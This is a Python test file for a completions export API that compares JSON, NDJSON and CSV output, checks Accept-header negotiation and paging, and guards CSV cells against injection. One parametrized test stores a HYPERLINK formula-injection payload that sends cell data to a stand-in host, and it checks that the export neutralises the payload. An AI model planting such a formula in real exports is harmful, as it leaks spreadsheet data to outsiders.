"""JSON, lines of JSON and CSV say the same; which one comes is said by Accept."""

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import Engine

from tests.web.puller import Puller
from tests.web.staged import START, Staged
from totara_bridge.web.problem import Problem
from totara_bridge.web.pull.form import choose

ALL = "2000-01-01"
JSON, NDJSON, CSV = "application/json", "application/x-ndjson", "text/csv"

HEADER = (
    "id,version,site,userId,courseId,status,progress,grade,rpl,timeenrolled,timestarted,timecompleted,changedAt,deleted,"
    "user_username,user_idnumber,user_email,user_firstname,user_lastname,user_suspended,user_deleted,"
    "course_shortname,course_idnumber,course_fullname,course_categoryId,instances,"
    "acknowledgement_status,acknowledgement_reference,acknowledgement_message,acknowledgement_version,"
    "acknowledgement_acknowledgedAt"
)
COLUMNS = HEADER.split(",")


@pytest.fixture
def staged(staging: Engine) -> Staged:
    """Staging without completions."""
    return Staged(staging)


def items(puller: Puller, accept: str, **asked: Any) -> list[Any]:
    """The items, or the rows of CSV."""
    answer = puller.get("/completions", accept=accept, **{"since": ALL} | asked)
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"].partition(";")[0] == accept
    body = answer.content.decode()
    match accept:
        case "application/json":
            return list(json.loads(body)["items"])
        case "application/x-ndjson":
            assert body == "" or body.endswith("\n")
            return [json.loads(line) for line in body.split("\n")[:-1]]
        case _:
            assert body.endswith("\r\n")
            header, *rows = csv.reader(io.StringIO(body, newline=""), strict=True)
            assert header == COLUMNS
            return [dict(zip(header, row, strict=True)) for row in rows]


def flat(item: dict[str, Any]) -> dict[str, str]:
    """An item as a row of CSV has it."""
    groups = {name: (item[name] or {}) for name in ("user", "course", "acknowledgement")}
    keys = " ".join(each["recordKey"] for each in item["instances"])
    values = item | {"instances": keys}
    values |= {f"{name}_{key}": value for name, group in groups.items() for key, value in group.items()}
    return {name: _cell(values.get(name)) for name in COLUMNS}


def _cell(value: object) -> str:
    return "" if value is None else str(value).lower() if isinstance(value, bool) else str(value)


class TestContent:
    def test_is_the_same_in_each(self, staged: Staged, puller: Puller) -> None:
        staged.learner(3, first_name="Zoë", last_name='李,\r\n "Lee"\t\\ \u2028\'', deleted_at=START)
        staged.course(20, full_name="")
        staged.completion(
            3, 20, status="complete", progress=7, grade="0.12500", rpl="\n", time_enrolled=START,
            time_started=START + timedelta(microseconds=5), time_completed=START,
        )  # fmt: skip
        staged.instance(3, 20, archived_at=START, history_id=4)
        staged.instance(3, 20)
        staged.sql(
            """INSERT INTO bridge.acknowledgement
               VALUES ('warehouse', 'sbx', 3, 20, 1, 'rejected', :reference, :said, :now)""",
            reference="R,1",
            said="no\n",
            now=START,
        )
        staged.completion(4, 21)
        listed = items(puller, JSON)
        assert len(listed) == 2
        assert items(puller, NDJSON) == listed
        assert items(puller, NDJSON, limit=5) == listed
        assert items(puller, CSV) == items(puller, CSV, limit=5) == [flat(item) for item in listed]

    def test_is_nothing_where_there_is_nothing(self, staged: Staged, puller: Puller) -> None:
        assert items(puller, JSON) == items(puller, NDJSON) == items(puller, CSV) == []

    @pytest.mark.parametrize("limit", [None, 5])
    def test_goes_on_in_each(self, staged: Staged, puller: Puller, limit: int | None) -> None:
        staged.completion(3, 20)
        for accept in (NDJSON, CSV):
            answer = puller.get("/completions", accept=accept, since=ALL, limit=limit)
            link = answer.links["next"]["url"]
            assert ("limit=5" in link) == (limit is not None)
            nothing = puller.get("/completions" + link, accept=NDJSON)
            assert (nothing.status_code, nothing.text) == (200, "")

    def test_is_cut_where_the_limit_says_and_goes_on_there(self, staged: Staged, puller: Puller) -> None:
        made = [staged.completion(3, course) for course in range(1, 6)]
        answer = puller.get("/completions", accept=NDJSON, since=ALL, limit=2)
        rest = puller.get("/completions?cursor=" + answer.links["next"]["url"].partition("=")[2].partition("&")[0])
        assert [json.loads(line)["id"] for line in answer.text.splitlines()] == made[:2]
        assert [item["id"] for item in rest.json()["items"]] == made[2:]


class TestCells:
    @pytest.mark.parametrize(
        "first", ["=", "+", "-", "@", "\t", "\r", "\n=", " =", "\u3000=", "\ufeff\x01+", "\uff1d", "\uff20"]
    )
    def test_are_never_formulas(self, staged: Staged, puller: Puller, first: str) -> None:
        said = f"""{first}HYPERLINK("http://x/?"&A1,"a")"""
        staged.learner(3, username=said, id_number=said, email=said, first_name=said, last_name=said)
        staged.course(20, short_name=said, id_number=said, full_name=said)
        staged.completion(3, 20, rpl=said)
        staged.sql(
            "INSERT INTO bridge.acknowledgement VALUES ('warehouse', 'sbx', 3, 20, 1, 'received', :said, :said, :now)",
            said=said, now=START,
        )  # fmt: skip
        [row] = items(puller, CSV)
        assert list(row.values()).count(f"'{said}") == 11
        assert not [cell for cell in row.values() if cell.startswith(first)]
        assert items(puller, JSON)[0]["rpl"] == said

    def test_that_are_harmless_stay_as_they_are(self, staged: Staged, puller: Puller) -> None:
        staged.learner(3, first_name="Ann-Lee", last_name=" a=1", username="'=1")
        staged.completion(3, 20, grade="-5")
        [row] = items(puller, CSV)
        assert [row[name] for name in ("user_firstname", "user_lastname", "user_username", "grade")] == [
            "Ann-Lee", " a=1", "'=1", "-5",
        ]  # fmt: skip


class TestAccept:
    @pytest.mark.parametrize(
        ("accept", "comes"),
        [
            ("*/*", JSON),
            ("application/*", JSON),
            ("text/*", CSV),
            ("application/x-ndjson", NDJSON),
            ("APPLICATION/X-NDJSON", NDJSON),
            ("text/csv; header=present", CSV),
            ("text/csv;q=0.5, application/x-ndjson;q=0.9", NDJSON),
            ("text/csv;q=0.5, */*;q=0.1", CSV),
            ("application/json;q=0, */*", NDJSON),
            ("application/json;q=0.5, application/*;q=0.9", NDJSON),
            ("text/html, application/xhtml+xml, */*;q=0.8", JSON),
            ("text/csv, application/json", JSON),
            ("text/csv;q=0.001", CSV),
            ("text/csv ; q=1.0 , application/json ; Q=0.2", CSV),
            ("", JSON),
            (" ", JSON),
        ],
    )
    def test_is_read(self, accept: str, comes: str) -> None:
        assert choose(accept) == comes

    @pytest.mark.parametrize(
        "accept",
        ["text/html", "application/xml", "application/json;q=0", "text/csv;q=x", "image/*", "json", ";", "*/json"],
    )
    def test_of_nothing_there_is_says_what_there_is(self, accept: str) -> None:
        with pytest.raises(Problem, match="application/json, application/x-ndjson or text/csv") as refused:
            choose(accept)
        assert (refused.value.status, refused.value.kind) == (406, "not-acceptable")

    def test_of_one_completion_is_json(self, staged: Staged, puller: Puller) -> None:
        staged.completion(3, 20)
        assert puller.get("/completions/sbx-3-20", accept="application/*").status_code == 200
        refused = puller.get("/completions/sbx-3-20", accept=CSV)
        assert refused.headers["Content-Type"] == "application/problem+json"
        assert (refused.status_code, "application/json:" in refused.json()["detail"]) == (406, True)
